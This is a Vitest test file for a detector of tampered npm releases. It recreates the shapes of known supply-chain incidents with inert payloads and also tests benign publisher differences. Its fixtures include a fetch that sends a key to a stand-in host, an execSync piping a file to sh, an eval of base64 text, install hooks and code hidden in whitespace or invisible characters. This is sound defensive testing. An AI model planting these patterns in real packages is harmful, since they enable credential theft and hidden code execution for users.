import { describe, expect, it } from 'vitest';
import { judged } from '../../support/judged.js';

const manifest = {
  name: 'tiny',
  version: '1.2.3',
  main: 'dist/index.js',
  files: ['dist'],
  dependencies: { a: '1' },
};
const json = (value: object) => `${JSON.stringify(value, null, 2)}\n`;
const index =
  "'use strict';\nconst a = require('a');\nfunction run(key) {\n  return a(key);\n}\nmodule.exports = run;\n";
const minified = `!function(e){"use strict";${'var t=e.a(1),n=e.b(2);t(n),e.c=function(r){return r&&t(r)};'.repeat(20)}}(module);`;
const honest: Record<string, string> = {
  'package.json': json(manifest),
  'dist/index.js': index,
  'dist/index.min.js': minified,
  'dist/index.mjs': index.replaceAll('require', 'load'),
};
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** The verdict on a release that a rebuild should have made, with its files replaced or more of them. */
async function verdictOf(changed: Record<string, string>, source: Record<string, string> = {}) {
  const { verdict } = await judged({
    release: { ...honest, ...changed },
    source: { 'package.json': honest['package.json']!, ...source },
    rebuilds: [{ ...honest, ...source }],
    loaded: ['dist/index.js', 'dist/index.min.js', 'dist/index.mjs'],
  });
  return verdict.kind;
}
const withManifest = (fields: object) => ({ 'package.json': json({ ...manifest, ...fields }) });

describe('shapes of known incidents, with payloads that do nothing', () => {
  it.each<[string, Record<string, string>, Record<string, string>?]>([
    [
      'eslint-scope: a script and the hook that runs it',
      { ...withManifest({ scripts: { postinstall: 'node ./lib/build.js' } }), 'lib/build.js': 'marker();\n' },
    ],
    [
      'flatmap-stream: code at the end of the minified twin only',
      { 'dist/index.min.js': `${minified}!function(){marker()}();` },
    ],
    [
      'node-ipc: a function called at the end of one bundle',
      { 'dist/index.js': `${index}(function () { marker(); })();\n` },
    ],
    [
      'chalk and debug: one line near the top',
      { 'dist/index.js': index.replace('\n', '\nglobalThis.fetch = wrap(globalThis.fetch);\n') },
    ],
    [
      'web3.js: a function, and calls where keys are handled',
      {
        'dist/index.js': index
          .replace('return a(key);', 'send(key);\n  return a(key);')
          .replace(
            'module.',
            "function send(k) {\n  fetch('https://marker.example/x', { headers: { k } });\n}\nmodule.",
          ),
      },
    ],
    [
      'rand-user-agent: a line off the screen',
      { 'dist/index.js': index.replace('a(key);', `a(key);${' '.repeat(300)}marker = 1;`) },
    ],
    [
      'axios and mastra: a dependency that nothing loads',
      withManifest({ dependencies: { a: '1', marker: '1.0.0' } }),
    ],
    [
      'TanStack: a script outside of files and an optional dependency on a commit',
      {
        ...withManifest({ optionalDependencies: { '@x/setup': 'github:x/y#79ac49e' } }),
        'router_init.js': 'marker();\n',
      },
    ],
    ['TanStack: only the script', { 'router_init.js': 'marker();\n' }],
    [
      'Phantom Gyp: a binding.gyp with a command',
      { 'binding.gyp': "{ 'targets': [{ 'target_name': '<!(node x.js)' }] }\n" },
    ],
    [
      'XZ: a build script that unpacks a test file',
      { 'dist/index.js': `${index}execSync('xz -dc ' + here('bad-3.lzma') + ' | sh');\n` },
      { 'tests/bad-3.lzma': 'x' },
    ],
    [
      'GlassWorm: code in variation selectors',
      { 'dist/index.js': index.replace("'use strict'", `'use strict${'\u{e0101}\u{e0140}'.repeat(20)}'`) },
    ],
    [
      'rc: an obfuscated program',
      { 'dist/index.js': `${index}eval(atob("${base64('marker();'.repeat(30))}"));\n` },
    ],
    [
      'coa: a script that a changed file loads',
      { 'dist/index.js': `${index}require('./compile');\n`, 'dist/compile.js': 'marker();\n' },
    ],
    [
      'art-template: another entry point, a page script that sends',
      { 'dist/index.mjs': `${honest['dist/index.mjs']}new WebSocket('wss://marker.example/');\n` },
    ],
    [
      'bundling: a package with a hook in node_modules',
      { 'node_modules/m/package.json': '{"name":"m","scripts":{"install":"node x"}}\n' },
    ],
    ['a shrinkwrap that names other addresses', { 'npm-shrinkwrap.json': '{"packages":{}}\n' }],
  ])('%s', async (_, changed, source) => {
    expect(await verdictOf(changed, source)).toBe('suspicious');
  });
});

describe('what honest publishers do', () => {
  it.each<[string, Record<string, string>, string]>([
    ['files of the operating system and of tools', { '.DS_Store': 'x', 'yarn-error.log': 'error' }, 'inert'],
    ['other line ends', { 'dist/index.js': index.replaceAll('\n', '\r\n') }, 'reproduced'],
    [
      'the bundle of another minifier',
      {
        'dist/index.min.js': minified
          .replaceAll('var t=', 'let q=')
          .replaceAll('t(', 'q(')
          .replaceAll('e.', 'o.'),
      },
      'differs',
    ],
    [
      'a helper of another compiler',
      {
        'dist/index.js': index.replace(
          '\n',
          '\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.run = void 0;\n',
        ),
      },
      'differs',
    ],
    [
      'a script that was left in the folder that is packed',
      { 'dist/old.js': 'module.exports = 1;\n' },
      'differs',
    ],
    ['a banner', { 'dist/index.js': `/*! tiny v1.2.3 | https://tiny.example */\n${index}` }, 'reproduced'],
  ])('%s', async (_, changed, kind) => {
    expect(await verdictOf(changed)).toBe(kind);
  });
});
